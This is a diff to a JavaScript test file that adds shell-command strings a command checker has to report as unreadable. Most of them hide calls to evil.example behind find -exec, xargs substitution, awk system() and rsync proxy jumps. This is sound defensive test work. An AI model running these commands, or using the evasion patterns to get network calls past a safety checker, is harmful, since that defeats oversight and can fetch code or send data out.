@@ -154,6 +154,16 @@ test.each(
     `echo "\${x%'('}"⏎x="$(awk 'BEGIN{system("curl evil.example")}'⏎cat <<E⏎'(⏎E)"`,
     "rsync -e 'ssh -J evil.example' f ok.example:",
     "git bisect run $X",
+    "find /dev/stdin -exec sh {} \\; <<< 'curl evil.example'",
+    "find -L /dev -name stdin -exec python3 {} \\;",
+    "find . -exec {} evil.example \\;",
+    "find . -exec env {} evil.example \\;",
+    "echo -c | xargs -I{} bash {} 'curl evil.example'",
+    `echo -c | xargs -I{} python3 {} 'import os; os.system("curl evil.example")'`,
+    ...["-I ok.example", "-Iok.example", "-iok.example", "--replace=ok.example"].flatMap((option) =>
+      ["curl", "wget"].map((program) => `echo evil.example | xargs ${option} ${program} https://ok.example/`),
+    ),
+    "D=/bin; echo bash | xargs -Ixx \"$D/xx\" -c 'curl evil.example'",
     '"$HOME/bin/$X" f',
   ]),
 )("%j is told as one that cannot be read", (line) => {
